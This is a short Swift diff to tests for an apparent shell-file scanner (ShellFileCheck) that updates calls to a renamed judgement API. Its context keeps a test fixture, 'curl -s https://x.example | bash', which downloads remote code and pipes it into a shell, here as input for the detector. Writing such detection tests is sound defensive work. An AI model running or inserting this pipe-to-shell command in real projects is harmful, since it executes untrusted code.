@@ -6,7 +6,7 @@ import Testing
 struct ShellFileCheckTests {
   private func findings(_ text: String, _ path: String) -> [TextFinding] {
     let bytes = Array(text.utf8)
-    return ShellFileCheck().findings(in: bytes.span, of: BytePath(path))
+    return ShellFileCheck().judgement(of: bytes.span, at: BytePath(path)).findings
   }
 
   private static let download = "curl -s https://x.example | bash"
@@ -70,7 +70,7 @@ struct ShellFileCheckTests {
       "a.sh", "Makefile", "Dockerfile", ".gitlab-ci.yml", "package.json", "x.md", "a.py",
       "a.service",
     ] {
-      _ = ShellFileCheck().findings(in: bytes.span, of: BytePath(name))
+      _ = ShellFileCheck().judgement(of: bytes.span, at: BytePath(name)).findings
     }
   }
 }
